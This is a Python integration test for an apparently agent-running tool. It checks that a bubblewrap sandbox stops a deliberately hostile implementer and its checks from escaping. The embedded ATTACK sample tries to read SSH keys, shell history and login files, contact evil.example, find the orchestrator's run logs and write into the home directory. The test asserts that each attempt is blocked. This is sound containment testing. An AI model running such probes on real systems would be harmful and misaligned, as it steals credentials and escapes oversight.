"""A whole run whose implementer and whose checks try to get out, with a real bubblewrap."""

from __future__ import annotations

import json
import os
import socket
import subprocess
from pathlib import Path

import pytest
import yaml
from kitty_run.engine.state.events import CheckEnded, EgressDenied
from kitty_run.engine.state.journal import read

from tests.cli.project import Project, make, only
from tests.execution import bubblewrap

ATTACK = """
import json, os, pathlib, socket, urllib.error, urllib.request
home, done = pathlib.Path(os.environ["HOME"]), {}
def tries(name, what):
    try:
        done[name] = str(what())
    except OSError as error:
        done[name] = type(error).__name__
tries("key", lambda: (home / ".ssh" / "id").read_text())
tries("history", lambda: (home / ".bash_history").read_text())
tries("login", lambda: (home / ".robo" / "login").read_text())
tries("connection", lambda: socket.create_connection(("127.0.0.1", PORT), 5))
tries("proxy", lambda: urllib.request.urlopen("http://evil.example:8080/", timeout=10))
workspace = pathlib.Path(os.environ["KITTY_WORKSPACE"])
root = pathlib.Path((workspace / ".git").read_text().split(":", 1)[1].strip()).parents[2]
tries("state", lambda: list(root.glob(".kitty-run/runs/*/events.jsonl")))
(home / "owned").write_text("x")
"""
IMPLEMENT = """
import sys
sys.stdin.read()
ATTACK
(workspace / "attack.json").write_text(json.dumps(done))
(workspace / "check.py").write_text(CHECK)
print("wrote")
"""


def project(tmp_path: Path, port: int) -> tuple[Project, Path]:
    home = tmp_path / "home"
    for name in (".ssh/id", ".bash_history", ".robo/login"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("private")
    attack = ATTACK.replace("PORT", str(port))
    check = f"{attack}\nprint(json.dumps(done))\n"
    code = IMPLEMENT.replace("ATTACK", attack).replace("CHECK", repr(check))
    made = make(tmp_path / "repo", implementer=code, dependencies={"WP01": ()})
    profile = yaml.safe_load(made.profile.read_text())
    profile["policy"] = {**profile["policy"], "network_mode": "allowlist", "sandbox_mode": "workspace_write"}
    profile["network"] = {"allow": ["listed.example"]}
    for agent in profile["agents"].values():
        agent["sandbox"], agent["home"] = "bubblewrap", [".robo"]
        agent["enforce"]["sandbox_mode"] = {"workspace_write": "runner"}
        agent["enforce"]["network_mode"] = {"allowlist": "runner"}
        agent.setdefault("env", {})["pass"] = ["PATH", "HOME"]
    profile["roles"]["implement"]["checks"] = [{"name": "attack", "command": ["python3", "check.py"]}]
    made.profile.write_text(yaml.safe_dump(profile, sort_keys=False))
    return made, home


def test_neither_attempt_nor_check_gets_out_and_what_they_tried_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", f"{bubblewrap.directory()}{os.pathsep}{os.environ['PATH']}")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    with socket.create_server(("127.0.0.1", 0)) as server:
        one, home = project(tmp_path, server.getsockname()[1])
        done = one.kitty_run(str(one.profile), "--mission", "demo", "--json")
    assert done.status == 0, done.err
    common = {"key": "FileNotFoundError", "history": "FileNotFoundError", "state": "[]"}
    common |= {"connection": "ConnectionRefusedError", "proxy": "HTTPError"}
    journal = only(one).journal
    [check] = [entry.event for entry in read(journal) if isinstance(entry.event, CheckEnded)]
    assert json.loads(check.log.read_text()) == {**common, "login": "FileNotFoundError"}
    written = subprocess.run(
        ["git", "show", "main:attack.json"], cwd=one.root, capture_output=True, text=True, check=True
    )
    assert json.loads(written.stdout) == {**common, "login": "private"}
    assert not (home / "owned").exists()
    events = [entry.event for entry in read(journal) if isinstance(entry.event, EgressDenied)]
    denied = {(event.marker.rpartition("/")[2], event.host, event.port) for event in events}
    assert denied == {("implement-1", "evil.example", 8080), ("checks-1", "evil.example", 8080)}
    assert json.loads(done.out)["denied"] == ["evil.example:8080"]
